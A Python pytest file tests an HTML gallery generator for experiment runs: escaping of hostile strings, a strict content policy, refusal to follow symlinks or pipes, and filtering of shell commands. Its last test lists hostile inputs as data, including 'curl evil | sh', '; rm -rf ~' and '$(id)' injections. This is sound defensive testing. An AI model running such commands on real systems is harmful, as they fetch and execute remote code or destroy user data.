"""The page of many runs: what it shows, that nothing breaks it, how it acts."""

import base64
import html
from html import parser
import json
import os
import re
import shutil
import subprocess

import pytest
import runs

from experiments import gallery
from experiments.lib import claims
from experiments.lib import flags
from experiments.lib import results
from experiments.lib import runner
from experiments.lib import tables

EVIL = runs.EVIL
BROWSER = next(
  filter(None, map(shutil.which, ('chromium', 'google-chrome', 'chrome'))), None
)
VOID = ('meta', 'img', 'input')


class Reader(parser.HTMLParser):
  """Holds tags to their ends; keeps tags with their attributes, and text."""

  def __init__(self):
    super().__init__()
    self.open, self.tags, self.text = [], [], []

  def handle_starttag(self, tag, attrs):
    self.tags.append((tag, dict(attrs)))
    assert not any(k.startswith('on') for k, _ in attrs), attrs
    self.text.append(' ')
    if tag not in VOID:
      self.open.append(tag)

  def handle_endtag(self, tag):
    assert self.open.pop() == tag, (tag, self.open)

  def handle_data(self, data):
    self.text.append(data)

  def all(self, tag, **wanted):
    wanted = {key.replace('_', '-'): value for key, value in wanted.items()}
    found = [attrs for name, attrs in self.tags if name == tag]
    return [a for a in found if wanted.items() <= a.items()]


def read(text):
  page = Reader()
  page.feed(text)
  assert not page.open
  return page, ' '.join(''.join(page.text).split())


def say(path, *made, **more):
  """Puts other claims, tables or an answer into the report of a run."""
  saved = runner.to_json(runs.report(*made), 'experiments.gallery', '', 'c')
  runs.edit(path / 'report.json', **({'claims': saved['claims']} | more))


@pytest.fixture(scope='module')
def folder(tmp_path_factory):
  """Runs with claims of two papers, one that has only verdicts, and others."""
  folder = tmp_path_factory.mktemp('runs')
  halfway = runs.claim('halves', paper='2206.04463')
  first = runs.make(folder / 'first', halfway, answer='In the middle.')
  shutil.copytree(first, folder / 'more' / EVIL.replace('/', '-'))
  untested = runs.claim('big', not_tested=EVIL)
  say(
    folder / 'more' / EVIL.replace('/', '-'),
    *(runs.claim('one'), runs.claim('two', None), runs.claim('three', False)),
    untested,
    answer=f'{EVIL}.',
  )
  old = shutil.copytree(first, folder / 'old')
  heads = [tables.Column(name, '', '') for name in ('of', 'verdict', 'why')]
  said = [['mlp', 'supported', EVIL], ['cnn', 'farther', ''], ['vit', EVIL, '']]
  verdicts = tables.to_json(tables.Table('Verdicts', heads, said))
  found = json.loads((old / 'report.json').read_text())['tables']
  say(old, tables=[verdicts, *found], answer='mlp: supported')
  os.remove(old / 'figures/captions.json')
  (old / 'figures/film.html').write_text('<p>')
  shutil.copytree(first, folder / 'killed')
  runs.edit(folder / 'killed/run.json', finished=None)
  (folder / 'photos').mkdir()
  return folder


@pytest.fixture(scope='module')
def page(folder):
  out = gallery.run(gallery.Config(runs=str(folder)))
  assert out == folder / 'gallery.html'
  return out.read_text()


def test_the_page_needs_nothing_and_escapes_all(folder, page, capsys):
  gallery.run(gallery.Config(runs=str(folder)))
  size = len(page.encode()) / 1024**2
  assert capsys.readouterr().out == (
    f'3 runs, 2 other folders: {folder}/gallery.html ({size:.1f} MB)\n'
  )
  tags, text = read(page)
  # Nothing from a file became a tag; no address leads out of the page.
  assert len(tags.all('script')) == 1 and text.count(EVIL) > 15
  addresses = [a.get('src', a.get('href')) for _, a in tags.tags]
  others = {a for a in addresses if a and not a.startswith('data:')}
  assert others == {'#run0', '#run1', '#run2'}
  assert 'url(' not in page and '@import' not in page
  (policy,) = tags.all('meta', http_equiv='Content-Security-Policy')
  assert policy['content'] == (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; "
    "script-src 'unsafe-inline'"
  )


def test_answers_and_verdicts_come_first(page):
  tags, text = read(page)
  order = [
    '3 runs',
    'Answers',
    f'{EVIL}. ',
    'first In the middle.',
    'old mlp: supported',
    'folders are not shown',
    'killed unfinished: the run did not reach its end',
    'photos not a run',
    'Verdicts',
    'Random networks 2004.05923 Claim one. ✓ supported more/',
    'Random networks 2004.05923 Claim two. ? undecided more/',
    'Random networks 2004.05923 Claim three. ✗ not supported more/',
    'Random networks 2004.05923 Claim big. ○ not tested more/',
    'Halfway 2206.04463 Claim halves. ✓ supported first',
    'A claim is supported if',
  ]
  places = [text.index(part) for part in order]
  assert places == sorted(places)
  rows = [attrs['data-run'] for attrs in tags.all('tr') if 'data-run' in attrs]
  assert rows == ['run0', 'run1', 'run2', *4 * ['run0'], 'run1']
  articles = [attrs['id'] for attrs in tags.all('article')]
  assert articles == ['run0', 'run1', 'run2']


def test_a_run_has_claims_then_figures_then_tables(folder, page):
  article = page.split('<article ')[1].split('</article>')[0]
  tags, text = read(f'<article {article}</article>')
  order = [
    f'more/{EVIL.replace("/", "-")}',
    f'How {EVIL}?',
    f'{EVIL}.',
    'gallery · preset quick · ',
    '✓ supported Claim one.',
    f'one · holds: one True {EVIL}; one True {EVIL}; one True {EVIL}',
    f'✓ one True {EVIL} (p = 0.001)',
    '? undecided Claim two.',
    f'? two None {EVIL} (p = 0.001) ✓ two True',
    '✗ not supported Claim three.',
    f'✗ three False {EVIL}',
    f'○ not tested Claim big. big · {EVIL}',
    f'A line, second: {EVIL}',
    f'A line, first_of_all: {EVIL}',
    'Sizes',
    'network size s n plain 2.50 [2.00, 3.00] 10',
    f'{EVIL} -0.00 [-2.00, 1.00] 9',
    'other - 100',
    f'What the columns mean network {EVIL} size how large; in s; 95 % interval',
    'python -m experiments.gallery',
    'Commit ',
    'Python 3.',
    'numpy 2.',
    'How it measures',
    'It takes seconds.',  # Of the docstring.
    'Flags --workdir=',
    '--preset=quick --data_dir= Columns of other.npz',
    'v [3, 2] a pair name [3] what it is called',
    'Columns of results.npz',
    f'x [3] where {EVIL}; in cm',
  ]
  assert [part for part in order if part not in text] == []
  places = [text.index(part) for part in order]
  assert places == sorted(places)
  pictures = tags.all('img')
  assert [image['alt'].split(',')[0] for image in pictures] == [
    'second',
    'first_of_all',
  ]
  kind, data = pictures[1]['src'].split(',')
  path = folder / 'first/figures/first_of_all.png'
  assert kind == 'data:image/png;base64'
  assert base64.b64decode(data) == path.read_bytes()


def test_numbers_are_typed(page):
  article = page.split('<article ')[1].split('</article>')[0]
  tags, _ = read(f'<article {article}</article>')
  heads = [attrs for attrs in tags.all('th')]
  assert [head.get('class') for head in heads] == [None, 'number', 'number']
  assert heads[0]['title'] == EVIL
  cells = tags.all('td')
  assert cells[:3] == [
    {},
    {
      'class': 'number',
      'data-value': '2.5',
      'title': 'n = 10 networks',
    },
    {'class': 'number', 'data-value': '10'},
  ]
  assert cells[7] == {'class': 'number'}  # Nothing to show.


def test_verdicts_without_claims_are_shown_as_such(page):
  article = page.split('<article ')[3].split('</article>')[0]
  tags, text = read(f'<article {article}</article>')
  assert f'✓ supported mlp {EVIL}' in text and 'farther cnn' in text
  assert f'{EVIL} vit' in text
  chips = [a['class'] for a in tags.all('span') if 'chip' in a.get('class', '')]
  assert chips == ['chip yes', 'chip other', 'chip other']
  assert len(tags.all('table')) == 1 and 'Verdicts' not in text
  # Figures without captions are called by their names.
  assert 'first of all second' in text
  assert re.search('To open by itself: .*/old/figures/film.html', text)


def test_only_a_first_table_of_verdicts_is_one(tmp_path):
  path = runs.make(tmp_path / 'run')
  saved = json.loads((path / 'report.json').read_text())
  table = saved['tables'][0] | {'title': 'Verdicts'}
  runs.edit(path / 'report.json', tables=[table])
  out = gallery.run(gallery.Config(runs=str(tmp_path)))
  assert '<caption>Verdicts</caption>' in out.read_text()  # It has claims.
  one = {'title': 'Verdicts', 'columns': table['columns'][:1], 'rows': [['x']]}
  runs.edit(path / 'report.json', claims=[], tables=[one])
  text = gallery.run(gallery.Config(runs=str(tmp_path))).read_text()
  assert '<caption>Verdicts</caption>' in text
  assert 'Claim' not in text and '<h2>Verdicts' not in text


def test_the_page_has_no_empty_lines_but_those_of_texts(page):
  texts = '(?s)<(?:script|style|pre)\\b.*?</(?:script|style|pre)>'
  for part in re.split(texts, page):
    assert not re.search(r'\n *\n', part)
    assert not re.search(r'\n +<', part)
  assert '<summary>Flags</summary><pre>\n--workdir=' in page


def test_it_looks_for_runs_where_they_are_written():
  assert gallery.Config().runs == 'runs'


def test_an_empty_folder_has_a_page_and_a_missing_one_is_named(tmp_path):
  empty = tmp_path / 'empty'
  empty.mkdir()
  out = gallery.run(
    gallery.Config(runs=str(empty), out=str(tmp_path / 'a/page.html'))
  )
  assert out == tmp_path / 'a/page.html' and not [*empty.iterdir()]
  _, text = read(out.read_text())
  assert '0 runs' in text and 'folders are not shown' not in text
  with pytest.raises(flags.FlagError, match=r'--runs=.*none is not a dir'):
    gallery.run(gallery.Config(runs=str(tmp_path / 'none')))
  with pytest.raises(flags.FlagError, match=r'--out=.* cannot be written'):
    gallery.run(gallery.Config(runs=str(tmp_path), out=str(tmp_path)))


def test_odd_files_of_a_finished_run_do_not_break_the_page(tmp_path):
  path = runs.make(tmp_path / 'odd')
  odd = dict(command='x', versions=[], devices=1, flags=None, git=7, python=[])
  runs.edit(path / 'run.json', started='2026-01-01', finished='tomorrow', **odd)
  runs.edit(path / 'report.json', question={'b': None}, command=['c'])
  runs.edit(path / 'columns.json', results={'x': {}, 'y': {'meaning': [EVIL]}})
  runs.edit(path / 'figures/captions.json', second=[EVIL], nowhere='?')
  (path / 'metrics.jsonl').write_text('3\n{"seconds": "x"}\n')
  (path / 'figures' / 'folder.png').mkdir()
  bare = runs.make(tmp_path / 'bare', answer='Why?')
  shutil.rmtree(bare / 'figures')
  runs.edit(bare / 'report.json', experiment=..., command=..., question=...)
  (path / 'figures' / 'film.gif').write_bytes(b'GIF89a')
  runs.reseal(path, 'figures/film.gif')
  page = gallery.run(gallery.Config(runs=str(tmp_path))).read_text()
  tags, text = read(page)
  assert '2 runs' in text and "{'b': None}" in text
  assert len(tags.all('img')) == 4  # One is that of the dialog.
  assert 'src="data:image/gif;base64,R0lGODlh"' in page


def test_older_runs_have_the_question_of_their_script(tmp_path):
  path = runs.make(tmp_path / 'run')
  runs.edit(path / 'report.json', question='')
  text = gallery.run(gallery.Config(runs=str(tmp_path))).read_text()
  assert '<p class="question">What did these runs find? One page' in text


def test_docstrings_are_of_scripts_of_this_package():
  assert gallery.docstring('gallery').startswith('What did these runs find?')
  for name in ('os', 'no_such', '.os', '../x', 'lib.runner', 'x' * 999, ''):
    assert gallery.docstring(name) == '', name


def test_seconds_are_told_in_words():
  said = [
    gallery.format_duration(s) for s in (0.2, 99.4, 99.5, 100, 5969, 5971, 9000)
  ]
  assert said == ['0 s', '99 s', '2 min', '2 min', '99 min', '1.7 h', '2.5 h']


def test_every_verdict_has_a_style():
  styles = {verdict: style for verdict, (style, _) in gallery.STYLES.items()}
  assert styles == {
    claims.SUPPORTED: 'yes',
    claims.NOT_SUPPORTED: 'no',
    claims.UNDECIDED: 'open',
    claims.NOT_TESTED: 'other',
  }


ACTS = """<script>
  const said = {};
  const cells = (t, i) =>
    [...t.tBodies[0].rows].map((r) => r.cells[i].innerText.split('\\n')[0]);
  const shown = (what) => all(what).filter((r) => r.offsetHeight).length;
  const type = (text) => {
    search.value = text; search.dispatchEvent(new Event('input')); };
  const press = (key) =>
    large.dispatchEvent(new KeyboardEvent('keydown', {key}));
  addEventListener('load', async () => {
    try {
      const images = all('.figures img');
      images.forEach((i) => { i.loading = 'eager'; });
      await Promise.all(images.map((i) => i.decode()));
      said.widths = images.map((i) => i.naturalWidth > 10);
      const table = document.querySelector('article table');
      const sizes = table.tHead.querySelectorAll('button')[1];
      sizes.click(); said.up = cells(table, 1);
      sizes.click(); said.down = cells(table, 1);
      said.aria = table.tHead.rows[0].cells[1].getAttribute('aria-sort');
      const numbers = table.tHead.querySelectorAll('button')[2];
      numbers.click(); said.numbers = cells(table, 2);
      const names = byId('index').tHead.querySelector('button');
      names.click(); names.click();
      said.order = all('#runs > article').map((r) => r.id);
      const verdicts = all('section table')[1];
      verdicts.tHead.querySelectorAll('button')[2].click();
      said.verdicts = cells(verdicts, 2).map((v) => v.slice(2));
      said.same = all('#runs > article').map((r) => r.id);
      said.before = shown('#runs > article');
      type('HALVES middle'); said.found = shown('#runs > article');
      said.rows = shown('tr[data-run]');
      said.count = byId('count').textContent;
      type('nowhere'); said.none = shown('#runs > article');
      said.note = !byId('none').hidden; type('');
      said.again = byId('count').textContent;
      const paper = () => getComputedStyle(document.body).backgroundColor;
      const light = paper(); toggle.click(); said.dark = [light, paper()];
      type('holds:');
      document.querySelector('article:not([hidden]) .enlarge').click();
      const [image, text] = large.children;
      said.large = large.open && image.src.length > 100;
      said.caption = text.textContent;
      said.shown = [image.alt];
      for (const key of ['Right', 'Right', 'Left', 'Left', 'Left', 'Right']) {
        press('Arrow' + key); said.shown.push(image.alt); }
      press('Tab');
      large.click(); said.closed = !large.open; type('');
      dispatchEvent(new Event('beforeprint'));
      said.open = all('.legend, .claims details').every((d) => d.open);
      said.wide = document.documentElement.scrollWidth <= innerWidth;
    } catch (e) { errors.push(String(e)); }
    document.body.innerHTML =
      '<pre id="said">' + JSON.stringify({...said, errors}) + '</pre>';
  });
</script>"""
WATCH = """<script>const errors = [];
  addEventListener('error', (e) => errors.push(e.message));
  console.error = console.warn = (e) => errors.push(String(e));</script>"""


@pytest.mark.skipif(not BROWSER, reason='there is no Chromium here')
def test_the_page_acts_in_a_browser(page, tmp_path):
  text = page.replace('<script>', WATCH + '<script>', 1)
  path = tmp_path / 'page.html'
  path.write_text(text.replace('</body>', ACTS + '</body>'))
  out = subprocess.run(
    [
      BROWSER,
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      f'--user-data-dir={tmp_path}/profile',
      '--window-size=500,800',
      '--virtual-time-budget=4000',
      '--dump-dom',
      path.as_uri(),
    ],
    capture_output=True,
    text=True,
    timeout=60,
    check=True,
  ).stdout
  found = re.search('id="said">(.*?)</pre>', out).group(1)
  said = json.loads(html.unescape(found))
  assert said.pop('errors') == []
  assert said['widths'] == 6 * [True] and said['wide']
  # By the value, not by the text; what has none comes last both ways.
  assert said['up'] == ['-0.00', '2.50', '-']
  assert said['down'] == ['2.50', '-0.00', '-']
  assert said['numbers'] == ['9', '10', '100']
  assert said['aria'] == 'descending'
  assert said['order'] == said['same'] == ['run2', 'run0', 'run1']
  assert said['verdicts'] == [
    'not supported',
    'not tested',
    *2 * ['supported'],
    'undecided',
  ]
  assert (said['before'], said['found'], said['none']) == (3, 1, 0)
  assert said['rows'] == 2 and said['note']
  assert said['count'] == '1 of 3 runs' and said['again'] == '3 runs'
  light, dark = (sum(map(int, re.findall(r'\d+', c))) for c in said['dark'])
  assert light > 600 > 150 > dark
  assert said['large'] and said['closed'] and said['open']
  assert said['caption'] == f'A line, second: {EVIL}'
  # Those of runs that are shown, in their order, and round.
  name = f'more/{EVIL.replace("/", "-")}'
  assert [alt.replace(name, 'evil') for alt in said['shown']] == [
    f'{figure} of {run}'
    for figure, run in (
      ('second, figure', 'evil'),
      ('first_of_all, figure', 'evil'),
      ('second, figure', 'first'),
      ('first_of_all, figure', 'evil'),
      ('second, figure', 'evil'),
      ('first_of_all, figure', 'first'),
      ('second, figure', 'evil'),
    )
  ]


def test_links_and_pipes_are_neither_followed_nor_waited_for(tmp_path, capsys):
  secret = tmp_path / 'secret'
  secret.write_text('for my eyes only')
  folder = tmp_path / 'runs'
  for name in ('figure', 'pipe', 'report'):
    runs.make(folder / name)
  link = folder / 'figure/figures/second.png'
  link.unlink()
  link.symlink_to(secret)
  pipe = folder / 'pipe/figures/second.png'
  pipe.unlink()
  os.mkfifo(pipe)
  report = folder / 'report/report.json'
  report.unlink()
  report.symlink_to(secret)
  path = gallery.run(gallery.Config(runs=str(folder)))
  page, said = path.read_text(), capsys.readouterr()
  encoded = base64.b64encode(secret.read_bytes()).decode()
  assert encoded not in page and 'for my eyes' not in page
  assert '2 runs, 1 other folders' in said.out
  for place in (link, pipe):
    assert f'note: {place}' in said.err
  assert f'{report} cannot be read' in page
  # The other figures are there.
  assert page.count('data:image/png') == 2


def test_only_commands_of_experiments_are_shown_and_quoted(tmp_path):
  path = runs.make(tmp_path / 'run')
  for command, shown in (
    ('python -m experiments.gallery --a=b', None),
    ('python -m experiments.gallery; rm -rf ~', ''),
    ('python -m experiments.gallery --a=$(id)', "--a=$(id)'"),
    ("python -m experiments.gallery --a='b", ''),
    ('curl evil | sh', ''),
  ):
    runs.edit(path / 'report.json', command=command)
    found = gallery.command(results.read_run('run', path))
    if shown is None:
      assert found == command
    elif shown:
      assert found.endswith(shown) and "'--a=$(id)'" in found
    else:
      assert found == ''
  runs.edit(
    path / 'report.json', experiment='experiments.x; id', command='x; id'
  )
  assert gallery.command(results.read_run('run', path)) == ''
